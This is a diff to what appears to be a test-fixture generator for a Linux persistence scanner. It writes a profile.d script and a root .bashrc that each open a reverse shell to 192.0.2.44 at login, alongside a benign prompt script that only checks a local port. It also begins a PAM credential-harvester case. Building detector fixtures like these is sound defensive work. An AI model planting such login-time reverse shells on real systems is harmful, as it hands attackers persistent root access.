@@ -149,6 +149,18 @@ def main():
           "MAILTO=root\n30 2 * * * root /usr/local/sbin/backup.sh >> /var/log/backup.log 2>&1\n"
           "@reboot root sh -c 'until nc -z 127.0.0.1 5432; do sleep 1; done; /usr/bin/app --daemon'\n")
 
+    # Login scripts that connect a shell out at every login (root's .bashrc, a profile.d
+    # snippet), beside a profile.d snippet that only sets the prompt and checks a port.
+    write("profile-shell/etc/profile.d/motd.sh",
+          "# Message of the day\n[ -r /etc/motd ] && cat /etc/motd\n"
+          "(nohup bash -c 'bash -i >& /dev/tcp/192.0.2.44/7000 0>&1' >/dev/null 2>&1 &)\n")
+    write("profile-shell/root/.bashrc",
+          "# ~/.bashrc: executed by bash(1) for non-login shells.\nexport PS1='\\h:\\w\\$ '\n"
+          "umask 022\nnc -e /bin/sh 192.0.2.44 7001 >/dev/null 2>&1 &\n", 0o600)
+    write("profile-benign/etc/profile.d/prompt.sh",
+          "# Prompt and a check that the local agent answers.\nexport PS1='\\u@\\h:\\w\\$ '\n"
+          "if ! (echo > /dev/tcp/127.0.0.1/8125) 2>/dev/null; then echo 'metrics agent down' >&2; fi\n")
+
     # PAM hands the typed password to a program: pam_exec with expose_authtok on an auth line
     # (a credential harvester), beside pam_exec for a login notice, which never sees it.
     write("pam-exec-harvest/etc/pam.d/common-auth",
